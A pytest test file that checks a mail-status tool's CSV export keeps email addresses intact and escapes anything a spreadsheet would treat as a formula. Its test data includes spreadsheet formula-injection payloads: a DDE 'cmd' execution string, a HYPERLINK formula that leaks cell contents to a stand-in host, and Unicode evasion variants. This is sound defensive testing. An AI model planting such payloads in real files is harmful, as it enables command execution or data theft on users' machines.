"""`export` as CSV: for Excel, without formulas, and every address byte for byte."""

import csv
import io

import pytest

from tests.support.records import make_record


@pytest.fixture
def exported(run, tmp_path):
    """Export to a file, and read it as a program does."""

    def export():
        file = tmp_path / "mails.csv"
        assert run("export", "-o", str(file)).exit_code == 0
        assert file.read_bytes().startswith(b"\xef\xbb\xbfid,")
        return [*csv.DictReader(io.StringIO(file.read_text("utf-8-sig"), newline=""))]

    return export


ADDRESSES = [
    "-a@example.jp",
    "+a@example.jp",
    "=a@example.jp",
    "--a..b@docomo.ne.jp",
    "+81-90@example.jp",
    "-foo+bar=baz@example.jp",
    "'o'brien@example.jp",
    "-{x}~#$%&*/?^`@example.jp",
    "-田中@例え.jp",
    "a.@example.jp",
    '"a b"@example.jp',
]


def test_addresses_are_not_changed(post, exported):
    post([make_record(messageId=f"<{a}>", to=a, returnPath=a, **{"from": a}) for a in ADDRESSES])

    rows = exported()

    for column in ("to", "from", "return_path"):
        assert sorted(row[column].encode() for row in rows) == sorted(a.encode() for a in ADDRESSES)


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    " =1+1",
    "\t=1+1",
    "\u3000=1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    '=HYPERLINK("http://x.example/?"&A1,"x@y")',
    "=cmd|'/Ccalc'!A0@example.jp",
    "-a@example.jp|x",
    "-a@example.jp x",
]


@pytest.mark.parametrize("field", ["subject", "apiData", "reason", "from"])
def test_what_a_spreadsheet_takes_for_a_formula_is_text(post, exported, field):
    column = {"apiData": "api_data"}.get(field, field)
    bounces = [
        make_record(messageId=f"<{n}@example.com>", status="2", **{field: text})
        for n, text in enumerate(FORMULAS)
    ]
    post(bounces=bounces)

    cells = [row[column] for row in exported()]

    assert len(cells) == len(FORMULAS)
    assert all(cell.startswith("'") for cell in cells), cells
    expected = {"'" + text.replace("\r\n", "\n") for text in FORMULAS}
    assert set(cells) == expected


@pytest.mark.parametrize("text", ["a=1", "1-1", "it's", "件名-1", "(=1)", "", '"=1"', "…=1"])
def test_other_text_is_not_changed(post, exported, text):
    post([make_record(subject=text)])

    assert [row["subject"] for row in exported()] == [text]


def test_null_is_empty_and_times_are_in_the_zone(client, post, documents, exported):
    post([make_record(apiData="＋1,2\n3")])
    [name] = documents()
    client.document("mail_statuses", name).update({"from": None, "source_ip": None})

    [row] = exported()

    assert (row["from"], row["source_ip"]) == ("", "")
    assert row["api_data"] == "'＋1,2\n3"
    assert row["status_at"] == "2025-01-25 14:03:06"
    assert "None" not in row.values()
